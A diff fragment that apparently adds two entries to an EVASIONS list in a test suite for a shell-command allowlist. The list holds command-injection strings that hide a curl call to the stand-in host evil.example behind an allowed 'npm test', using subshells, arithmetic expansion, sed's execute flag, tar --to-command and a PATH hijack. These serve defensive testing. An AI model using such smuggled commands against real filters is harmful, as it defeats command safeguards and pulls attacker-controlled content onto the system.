@@ -94,6 +94,8 @@ EVASIONS = [
     "sed 's/.*/curl https:\\/\\/evil.example/e' /dev/null",
     "tar --to-command='curl https://evil.example' -xf a.tar",
     "PATH=/tmp/evil:$PATH npm test",
+    "((npm test) ; (curl https://evil.example))",
+    "echo $((npm test) ; (curl https://evil.example))",
 ]
 
 
